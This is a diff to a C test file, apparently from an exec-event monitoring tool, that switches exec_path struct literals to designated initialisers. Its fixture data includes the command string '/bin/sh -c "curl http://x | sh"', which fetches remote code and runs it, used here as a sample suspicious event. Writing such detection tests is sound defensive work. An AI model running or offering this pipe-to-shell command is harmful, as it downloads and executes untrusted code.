@@ -47,11 +47,11 @@ static void make_events(struct exec_event ev[2])
 	ev[0].args = (const char **)args_a;
 	ev[0].arglens = (size_t *)lens_a;
 	ev[0].argv_str = "/bin/sh -c \"curl http://x | sh\" \"\"";
-	ev[0].path[EXEC_PATH_CWD] = (struct exec_path){ cwd, sizeof(cwd) - 1, false };
-	ev[0].path[EXEC_PATH_FILE] = (struct exec_path){ file, sizeof(file) - 1, false };
-	ev[0].path[EXEC_PATH_EXE] = (struct exec_path){ exe, sizeof(exe) - 1, false };
-	ev[0].path[EXEC_PATH_PARENT_EXE] = (struct exec_path){ pexe, sizeof(pexe) - 1, true };
-	ev[0].path[EXEC_PATH_CGROUP] = (struct exec_path){ cg, sizeof(cg) - 1, false };
+	ev[0].path[EXEC_PATH_CWD] = (struct exec_path){ .s = cwd, .len = sizeof(cwd) - 1, .truncated = false };
+	ev[0].path[EXEC_PATH_FILE] = (struct exec_path){ .s = file, .len = sizeof(file) - 1, .truncated = false };
+	ev[0].path[EXEC_PATH_EXE] = (struct exec_path){ .s = exe, .len = sizeof(exe) - 1, .truncated = false };
+	ev[0].path[EXEC_PATH_PARENT_EXE] = (struct exec_path){ .s = pexe, .len = sizeof(pexe) - 1, .truncated = true };
+	ev[0].path[EXEC_PATH_CGROUP] = (struct exec_path){ .s = cg, .len = sizeof(cg) - 1, .truncated = false };
 	ev[0].upper_layer = true;
 	ev[0].file_upper_known = true;
 	ev[0].user = "root";
@@ -72,7 +72,7 @@ static void make_events(struct exec_event ev[2])
 	ev[1].args = (const char **)args_b;
 	ev[1].arglens = (size_t *)lens_b;
 	ev[1].argv_str = "sudo -i";
-	ev[1].path[EXEC_PATH_FILE] = (struct exec_path){ sfile, sizeof(sfile) - 1, false };
+	ev[1].path[EXEC_PATH_FILE] = (struct exec_path){ .s = sfile, .len = sizeof(sfile) - 1, .truncated = false };
 	ev[1].user = ev[1].host_user = "alice";
 	ev[1].group = ev[1].host_group = "uid:1000";
 	ev[1].loginuser = "uid:4294967295";
